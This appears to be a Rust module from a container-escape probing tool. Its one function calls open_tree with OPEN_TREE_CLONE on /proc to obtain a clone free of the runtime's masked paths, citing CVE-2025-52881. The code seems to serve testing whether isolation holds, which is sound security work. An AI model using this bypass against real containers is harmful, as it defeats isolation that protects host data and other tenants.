//! The new mount API's way to a detached copy of a tree, without its masks.
//!
//! Source: open_tree(2), CVE-2025-52881.

use crate::{Stop, Technique, sys::call};

pub(crate) const THIS: Technique =
    Technique { source: "open_tree(2)", tries: "open_tree(OPEN_TREE_CLONE) of /proc", attempt, alone: false };

fn attempt() -> Result<String, Stop> {
    // OPEN_TREE_CLONE, not recursive: the masks stay behind.
    call(
        "open_tree",
        libc::SYS_open_tree,
        [i64::from(libc::AT_FDCWD), c"/proc".as_ptr() as i64, 1, 0, 0, 0],
    )?;
    Ok("a clone of /proc without its masks".to_owned())
}
